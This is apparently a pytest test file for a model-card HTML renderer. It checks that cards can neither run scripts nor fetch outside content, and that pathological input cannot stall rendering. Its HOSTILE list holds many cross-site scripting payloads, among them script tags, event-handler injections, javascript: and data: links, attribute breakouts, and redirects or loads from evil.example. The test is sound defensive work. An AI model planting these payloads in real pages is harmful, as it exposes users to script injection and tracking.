"""Cards of anybody as HTML: what they say is shown, and nothing of it runs or is fetched."""

import re
from html.parser import HTMLParser
from time import monotonic

import pytest

from simmerge_hub.localhub.web.card import render_card

ALLOWED = {
    "h1", "h2", "h3", "h4", "h5", "h6", "p", "a", "em", "strong", "s", "code", "pre", "ul", "ol",
    "li", "blockquote", "hr", "br", "table", "thead", "tbody", "tr", "th", "td", "img",
}  # fmt: skip
ATTRIBUTES = {"href", "rel", "src", "alt", "class", "style", "start"}


class Seen(HTMLParser):
    """Every element and attribute of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def render(text: str) -> str:
    return render_card(
        text,
        file=lambda path: f"/o/n/blob/x/{path}" if path in ("a.txt", "sub/b.txt") else None,
        picture=lambda path: f"/o/n/picture/x/{path}" if path == "plan.svg" else None,
        model=lambda name: f"/{name}" if name == "nano/code" else None,
    )


def look(text: str) -> Seen:
    seen = Seen()
    seen.feed(render(text))
    return seen


HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate/></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import url(//evil.example)</style>",
    "<a href='javascript:alert(1)' onclick=alert(1)>x</a>",
    "<form action=//evil.example><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<!-- --!><script>alert(1)</script> -->",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.gif)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![x" onerror="alert(1)](plan.svg "t\\" onload=\\"alert(1)")',
    '[x](https://a.example "t\\" onclick=\\"alert(1)")',
    "<https://a.example/\"onclick=alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "```\"><script>alert(1)</script>\nx\n```",
    "```x\" onclick=\"alert(1)\nx\n```",
    "| a |\n| :--: |\n| <script>alert(1)</script> |",
    "---\ntitle: <script>alert(1)</script>\n---\n<script>alert(1)</script>",
    "[x](//evil.example)",
    "[x](/api/repos/delete)",
    "[x](../../api)",
    "# <b onmouseover=alert(1)>x",
    "**<svg/onload=alert(1)>**",
    "x\u202ey <script\u0000>alert(1)</script>",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_runs(text: str) -> None:
    seen = look(text)
    assert set(seen.tags) <= ALLOWED
    for tag, name, value in seen.attributes:
        assert name in ATTRIBUTES, (tag, name, value)
        assert name != "style" or re.fullmatch("text-align:(left|right|center)", value)
        if name == "src":
            assert value.startswith("/o/n/picture/")
        if name == "href":
            assert value == "#" or re.match(r"https?://|mailto:|//evil|/o/n/blob/", value), value
            assert "javascript" not in value.lower()


def test_what_cards_say_is_shown() -> None:
    html = render(
        "---\nlicense: mit\n---\n# Title\n\nA *word* and `code`.\n\n| a | b |\n| --- | --- |\n| 1 "
        "| 2 |\n\n```yaml\nx: 1\n```\n\n[file](sub/b.txt) [gone](c.txt) [top](#title)\n\n"
        "![tree](plan.svg)\n"
    )
    assert "license: mit" not in html
    assert "<h1>Title</h1>" in html
    assert "<td>1</td>" in html
    assert '<code class="language-yaml">x: 1' in html
    assert 'href="/o/n/blob/x/sub/b.txt"' in html
    assert '<img src="/o/n/picture/x/plan.svg" alt="tree"' in html
    assert 'href="#title"' in html


def test_models_that_are_here_are_linked_here() -> None:
    html = render("[a](https://huggingface.co/nano/code) [b](https://huggingface.co/org/other)")
    assert 'href="/nano/code"' in html
    assert 'href="https://huggingface.co/org/other"' in html


@pytest.mark.parametrize(
    "text", [">" * 5000, "[" * 20_000, "*a " * 20_000, "- " * 5000, "|" * 20_000, "`" * 20_001]
)
def test_a_card_that_is_made_to_be_slow(text: str) -> None:
    began = monotonic()
    render(text)
    assert monotonic() - began < 20
